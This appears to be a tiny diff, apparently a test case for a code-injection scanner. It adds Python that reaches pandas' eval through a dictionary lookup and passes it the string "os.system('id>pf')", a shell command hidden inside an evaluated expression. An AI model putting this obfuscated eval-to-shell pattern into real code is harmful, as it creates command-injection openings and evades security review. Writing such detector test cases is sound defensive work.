@@ -1,0 +1,2 @@
+import pandas as pd, os
+{'a': pd}.get('a').eval("os.system('id>pf')")
